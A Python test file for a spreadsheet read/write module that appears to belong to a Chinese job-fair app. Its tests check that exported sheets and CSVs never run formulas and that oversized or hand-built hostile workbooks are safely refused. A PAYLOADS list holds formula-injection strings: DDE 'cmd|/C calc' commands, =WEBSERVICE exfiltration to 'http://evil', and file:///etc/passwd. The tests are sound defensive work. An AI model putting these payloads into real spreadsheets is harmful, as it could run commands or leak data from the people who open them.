"""Sheets: reading hostile and ordinary files, and writing files that execute nothing."""

import csv
import io
import json
import subprocess
import sys
import zipfile
from datetime import date
from typing import Any

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from core.errors import DomainError
from core.root import ROOT
from sheets import (
    Column,
    Kind,
    Note,
    list_sheets,
    parse_day,
    read_rows,
    reading,
    write_csv,
    write_sheet,
)
from sheets.uploads import FileKind, Upload, accept
from tests.support.children import children

PAYLOADS = [
    "=1+1", "=1+1+cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"点我\")", "=cmd|'/C calc'!A1",
    "=WEBSERVICE(\"http://evil/\"&A1)", "=IMPORTXML(\"http://evil\",\"//a\")", "=IMAGE(\"http://e\")",
    "={1,2}", "{=1+1}", "=DDE(\"cmd\";\"/C calc\";\"1\")", "=EXEC(\"calc\")", "=CALL(\"x\")",
    "=RTD(\"x\",,\"y\")", "=INDIRECT(\"A1\")", "+1+1", "+cmd|' /C calc'!A0", "+86 139 0000 0000",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "-", "@SUM(1+1)", "@cmd", "@import", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "   =1+1", "\u3000=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "%0A=1+1", "|calc", ";=1+1", ",=1+1", "\"=1+1", "'=1+1", "http://evil.example/", "https://a.b",
    "mailto:a@b.c", "file:///etc/passwd", "internal:Sheet1!A1", "external:c:\\x.xlsx#A1",
    "ftp://evil", "#REF!", "=SUM(A1:A9)*", "1E+17", "0012", "340321199001010013", "TRUE", "1-2",
    "3/4", "<script>alert(1)</script>", "&amp;=1", "]]>", "\x00=1", "\x1b[31m", "_x0041_",
    "\ud800x", "\ufffe", "😀=1", "a" * 40_000,
]  # fmt: skip

ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
FAR = '<row r="1048576"><c r="{}1048576"><v>2</v></c></row>'


def read(data: bytes, name: str = "a.xlsx", sheet: str = "") -> list[tuple[str, ...]]:
    return [row.cells for row in read_rows(accept(io.BytesIO(data), name), sheet)]


def book(fill, **options) -> bytes:
    buffer = io.BytesIO()
    made = xlsxwriter.Workbook(buffer, {"in_memory": True, **options})
    fill(made)
    made.close()
    return buffer.getvalue()


def raw_book(cells: str, dimension: str = "A1", names: tuple[str, ...] = ("S",)) -> bytes:
    """Return a workbook whose sheet's XML is written by hand, as an attacker would."""
    sheets = "".join(
        f'<sheet name="{name}" sheetId="{number + 1}" r:id="r1"/>'
        for number, name in enumerate(names)
    )
    head = '<?xml version="1.0"?>'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = {
        "[Content_Types].xml": f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006'
        '/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'{head}<Relationships xmlns="{package}"><Relationship Id="r1" '
        f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{head}<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
        f"{sheets}</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'{head}<Relationships xmlns="{package}"><Relationship '
        f'Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{head}<worksheet xmlns="{main}">'
        f'<dimension ref="{dimension}"/>'
        f"<sheetData>{cells}</sheetData></worksheet>",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in parts.items():
            made.writestr(name, text)
    return buffer.getvalue()


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_stays_text_in_a_written_sheet(payload):
    data = write_sheet([Column("列")], [[payload]], title="表")

    with zipfile.ZipFile(io.BytesIO(data)) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    assert b"hyperlink" not in sheet
    assert sheet.count(b' t="s"') == 2  # heading and cell, both shared strings
    assert not any("externalLink" in name or "_rels/sheet" in name for name in parts)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_in_a_heading_a_title_and_a_note_stays_text(payload):
    data = write_sheet([Column(payload)], [], title=payload, notes=[Note(payload, payload)])

    with zipfile.ZipFile(io.BytesIO(data)) as made:
        sheets = [made.read(name) for name in made.namelist() if "worksheets/" in name]
    assert len(sheets) == 2
    assert all(b"<f>" not in sheet and b"hyperlink" not in sheet for sheet in sheets)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_csv_cell_begins_like_a_formula(payload):
    data = write_csv([Column("列"), Column("数")], [[payload, -3]])

    text, number = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1]
    assert not text.lstrip(" \u3000\ufeff").startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert number == "-3"


def test_a_long_number_keeps_all_its_digits():
    columns = [Column("身份证号", kind=Kind.ID), Column("人数", kind=Kind.NUMBER)]

    data = write_sheet(columns, [["340321199001010013", 3], [None, None]], title="表")

    assert read(data) == [("身份证号", "人数"), ("340321199001010013", "3")]


def test_writing_a_csv_with_an_id_column_is_refused():
    with pytest.raises(ValueError, match="never in a CSV"):
        write_csv([Column("身份证号", kind=Kind.ID)], [])


def test_the_header_is_frozen_and_choices_are_offered():
    data = write_sheet([Column("包吃住", choices=("是", "否"))], [], title="表")

    with zipfile.ZipFile(io.BytesIO(data)) as made:
        sheet = made.read("xl/worksheets/sheet1.xml").decode()
    assert 'state="frozen"' in sheet
    assert '<formula1>"是,否"</formula1>' in sheet


def test_an_id_stored_as_a_number_is_marked_as_ruined():
    rows = list(read_rows(accept(io.BytesIO(raw_book(
        '<row r="1"><c r="A1"><v>340321199001010013</v></c><c r="B1"><v>139000</v></c></row>'
    )), "a.xlsx")))  # fmt: skip

    assert rows[0].ruined == {0}
    assert rows[0].cells[1] == "139000"


def test_a_csv_number_written_short_is_marked_as_ruined():
    rows = list(read_rows(accept(io.BytesIO("代码,人\n3.40321E+17,3\n".encode()), "a.csv")))

    assert rows[1].ruined == {0}


def test_values_are_read_as_excel_shows_them():
    def fill(made):
        sheet = made.add_worksheet("岗位")
        day = made.add_format({"num_format": "yyyy-mm-dd"})
        sheet.write_row(1, 0, [3, 0.5, True, "  两边有空  ", "=1+1", 13900000000])
        sheet.write_datetime(1, 6, date(2023, 9, 1), day)

    rows = list(read_rows(accept(io.BytesIO(book(fill, strings_to_formulas=False)), "a.xlsx")))

    assert rows[0].number == 2
    assert rows[0].cells == ("3", "0.5", "是", "两边有空", "=1+1", "13900000000", "2023-09-01")


def test_merged_cells_are_filled_down_and_across():
    def fill(made):
        sheet = made.add_worksheet()
        sheet.merge_range("A1:C1", "招聘会岗位表")
        sheet.write_row(1, 0, ["单位", "岗位", "人数"])
        sheet.merge_range("A3:A4", "某厂")
        sheet.write_row(2, 1, ["焊工", "2"])
        sheet.write_row(3, 1, ["电工", "1"])

    assert read(book(fill)) == [
        ("招聘会岗位表",) * 3,
        ("单位", "岗位", "人数"),
        ("某厂", "焊工", "2"),
        ("某厂", "电工", "1"),
    ]


def test_only_visible_sheets_are_listed_and_each_can_be_read():
    def fill(made):
        for name in ("一月", "藏着的", "二月"):
            made.add_worksheet(name).write(0, 0, name)
        made.get_worksheet_by_name("藏着的").hide()

    upload = accept(io.BytesIO(book(fill)), "a.xlsx")

    assert [sheet.name for sheet in list_sheets(upload)] == ["一月", "二月"]
    assert [row.cells for row in read_rows(upload, "二月")] == [("二月",)]


def test_csv_rows_are_numbered_as_excel_shows_them():
    data = '岗位,职责\n保安,"一\n二"\n\n焊工,三\n'.encode()

    rows = list(read_rows(accept(io.BytesIO(data), "a.csv")))

    assert [row.number for row in rows] == [1, 2, 4]
    assert rows[1].cells == ("保安", "一\n二")


@pytest.mark.parametrize("mark", [",", "\t", ";"])
def test_csv_separated_by_comma_tab_or_semicolon_is_read(mark):
    data = f"岗位{mark}薪资{mark}地点\n".encode()
    assert read(data, "a.csv") == [("岗位", "薪资", "地点")]


def test_an_open_quote_is_reported_with_its_row():
    data = '岗位,职责\n保安,"'.encode() + b"a" * 200_000
    with pytest.raises(DomainError, match="第 2 行附近的引号没有成对"):
        read(data, "a.csv")


# Run in a new process, whose peak is read from /proc: a child's usage begins with its parent's.
MEASURED = """
import io, json, resource, sys
from core.errors import DomainError
from sheets import read_rows
from sheets.uploads import accept
try:
    upload = accept(io.BytesIO(sys.stdin.buffer.read()), "a.xlsx")
    cells = [row.cells for row in read_rows(upload)]
except DomainError as error:
    cells = str(error)
own = next(line for line in open("/proc/self/status") if line.startswith("VmHWM"))
used = [resource.getrusage(who) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
peak = max(int(own.split()[1]), used[1].ru_maxrss)
seconds = sum(each.ru_utime + each.ru_stime for each in used)
print(json.dumps({"cells": cells, "cpu_seconds": seconds, "peak_kb": peak}))
"""


def measured(data: bytes) -> dict[str, Any]:
    command = [sys.executable, "-c", MEASURED]
    done = subprocess.run(command, input=data, capture_output=True, check=True, timeout=600)
    return dict(json.loads(done.stdout))


def test_a_cell_in_the_farthest_corner_needs_little_memory():
    small = measured(raw_book(ONE))
    found = measured(raw_book(ONE + FAR.format("XFD")))

    assert isinstance(found["cells"], str)
    assert found["cpu_seconds"] < 3 * small["cpu_seconds"]
    assert found["peak_kb"] < 300_000


def test_a_cell_far_down_is_read_with_little_memory():
    far = (
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="C1048576"><v>2</v></c></row>'
    )

    found = measured(raw_book(far))

    assert found["cells"] == [["1", "", ""], ["", "", "2"]]
    assert found["peak_kb"] < 300_000


def test_a_false_dimension_changes_nothing():
    assert read(raw_book(ONE, "A1:XFD1048576")) == [("1",)]


def test_too_many_columns_are_refused_with_their_number():
    def fill(made):
        made.add_worksheet().write(0, 150, "x")

    with pytest.raises(DomainError, match="表里有 151 列，最多读 120 列"):
        read(book(fill))
    with pytest.raises(DomainError, match="最多读 120 列"):
        read((",".join("abc" * 50) + "\n").encode(), "a.csv")


@pytest.mark.parametrize(
    "names", [tuple(f"S{number}" for number in range(50_000)), ("S" * 200_000,), ("S", "表" * 101)]
)
def test_too_many_sheets_and_names_too_long_are_refused(names):
    """A page that lists them all would be of megabytes; a long name starts no process."""
    with pytest.raises(DomainError, match="工作表太多，或者工作表名字太长"):
        read(raw_book(ONE, names=names))


def test_as_many_sheets_as_may_be_are_listed():
    names = tuple(f"{number:0100d}" for number in range(200))
    upload = accept(io.BytesIO(raw_book(ONE, names=names)), "a.xlsx")

    assert len(list_sheets(upload)) == 200


def test_too_many_rows_are_refused(monkeypatch):
    monkeypatch.setattr(reading, "MAX_ROWS", 3)

    def fill(made):
        sheet = made.add_worksheet()
        for line in range(5):
            sheet.write(line, 0, "x")

    for data, name in ((book(fill), "a.xlsx"), (b"x,y\n" * 5, "a.csv")):
        with pytest.raises(DomainError, match="请分成几份再上传"):
            read(data, name)


def test_a_workbook_the_parser_cannot_read_is_refused_with_a_reason():
    with pytest.raises(DomainError, match="这份表读不出来"):
        read(raw_book("<row r='1'><c r='A1'><v>1</v></c>").replace(b"sheet1.xml", b"sheet2.xml"))


def test_no_process_is_left_after_reading_stops_early():
    def fill(made):
        sheet = made.add_worksheet()
        for line in range(3000):
            sheet.write(line, 0, "很长的字" * 50)

    rows = read_rows(accept(io.BytesIO(book(fill)), "a.xlsx"))
    next(rows)
    rows.close()

    assert children("sheets.child") == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_as_csv_is_read_or_refused(text):
    upload = Upload("a.csv", FileKind.CSV, text.encode("utf-8", "ignore"), "utf-8-sig")
    try:
        rows = list(read_rows(upload))
    except DomainError:
        return
    assert all(cell == cell.strip() for row in rows for cell in row.cells)


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2023.9.1", date(2023, 9, 1)),
        ("2023年9月", date(2023, 9, 1)),
        ("2023年9月1日", date(2023, 9, 1)),
        ("2023年09月01号", date(2023, 9, 1)),
        ("45170", date(2023, 9, 1)),
        ("45170.5", date(2023, 9, 1)),
        ("2023-09-01", date(2023, 9, 1)),
        ("2023/9/1", date(2023, 9, 1)),
        ("2023-09-01 08:30", date(2023, 9, 1)),
        ("2023-09-01T08:30:00", date(2023, 9, 1)),
        ("20230901", date(2023, 9, 1)),
        ("２０２３．９．１", date(2023, 9, 1)),
        (" 2023 年 9 月 1 日 ", date(2023, 9, 1)),
        ("2023.9", date(2023, 9, 1)),
        ("2023.13.1", None),
        ("2023年2月30日", None),
        ("2023.9.1以前", None),
        ("9月1日", None),
        ("2023", None),
        ("12", None),
        ("99999", None),
        ("长期", None),
        ("", None),
    ],
)
def test_dates_are_read_in_every_usual_format(text, day):
    assert parse_day(text) == day


@pytest.mark.parametrize(("text", "day"), [("2024年2月", 29), ("2023.2", 28), ("2023.9", 30)])
def test_a_month_at_the_end_of_a_period_is_its_last_day(text, day):
    found = parse_day(text, month_end=True)
    assert found is not None
    assert found.day == day


def csv_upload(*cells: str) -> Upload:
    return accept(io.BytesIO(f"岗位,{','.join(cells)}\n".encode()), "a.csv")


def xlsx_upload(*cells: str) -> Upload:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet().write_row(0, 0, ["岗位", *cells])
    book.close()
    return accept(io.BytesIO(buffer.getvalue()), "a.xlsx")


@pytest.mark.parametrize("upload", [csv_upload, xlsx_upload])
def test_a_cell_over_the_limit_is_refused_with_its_place(upload):
    sheet = upload("短", "1" * (reading.MAX_CELL + 1))

    with pytest.raises(DomainError, match="第 1 行 C 列的一格有 5001 个字，一格最多 5000 个字"):
        list(read_rows(sheet))


@pytest.mark.parametrize("upload", [csv_upload, xlsx_upload])
def test_a_cell_at_the_limit_is_read_whole(upload):
    (row,) = read_rows(upload("长" * reading.MAX_CELL))

    assert row.cells[1] == "长" * reading.MAX_CELL


@pytest.mark.parametrize(("place", "letters"), [(0, "A"), (25, "Z"), (26, "AA"), (119, "DP")])
def test_columns_are_named_as_in_a_spreadsheet(place, letters):
    assert reading.column_letters(place) == letters


def test_the_process_that_reads_a_workbook_starts_lean():
    """It is started twice for each sheet: what it need not import would take most of its time."""
    code = "import sys, sheets.child; print('sqlalchemy' in sys.modules, 'sheets' in sys.modules)"
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True
    )

    assert done.stdout == "False True\n"
